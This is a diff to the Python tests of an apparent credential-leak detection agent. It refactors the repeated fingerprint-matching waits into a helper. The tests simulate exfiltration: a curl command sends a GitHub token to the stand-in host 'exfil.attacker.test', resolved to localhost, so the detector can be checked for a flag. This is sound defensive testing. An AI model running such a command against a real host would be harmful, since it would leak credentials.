@@ -14,6 +14,14 @@ from cwtest import Agent, Skip, github_token, require_root
 EVIL = "exfil.attacker.test"
 
 
+def wait_own(agent, token, action):
+    """Findings of `action` for this test's token only: anything else running on the host
+    is not ours to count."""
+    fp = agent.key.fingerprint(token)
+    return agent.wait_for(lambda l: l["event"]["action"] == action and
+                          l["credential"]["fingerprint"] == fp, timeout=15)
+
+
 def self_signed(d):
     """A throwaway self-signed certificate and key in d."""
     cert, key = os.path.join(d, "c.pem"), os.path.join(d, "k.pem")
@@ -165,10 +173,7 @@ def test_tls_library_seen_without_loopback_capture():
     token = github_token()
     try:
         curl_client(srv.port, token)
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination" and
-                              l["credential"]["fingerprint"] == fp, timeout=15)
+        hits = wait_own(agent, token, "credential-unexpected-destination")
     finally:
         agent.stop()
         srv.close()
@@ -197,10 +202,7 @@ def test_curl_http2_hpack():
                             "-H", "@" + hdr, "--resolve", "%s:%d:127.0.0.1" % (EVIL, port),
                             "https://%s:%d/v1" % (EVIL, port)], capture_output=True, text=True)
         assert r.stdout == "2", r.stdout	# really HTTP/2
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] ==
-                              "credential-unexpected-destination" and
-                              l["credential"]["fingerprint"] == fp, timeout=15)
+        hits = wait_own(agent, token, "credential-unexpected-destination")
     finally:
         agent.stop()
         srv.kill()
@@ -350,9 +352,7 @@ def test_capture_inbound_sees_credentials_received():
         p = subprocess.run(["curl", "-sk", "https://127.0.0.1:%d/creds.txt" % port],
                            capture_output=True, text=True)
         assert token in p.stdout	# the client really received it
-        fp = agent.key.fingerprint(token)
-        hits = agent.wait_for(lambda l: l["event"]["action"] == "credential-received" and
-                              l["credential"]["fingerprint"] == fp, timeout=15)
+        hits = wait_own(agent, token, "credential-received")
     finally:
         agent.stop()
         srv.kill()
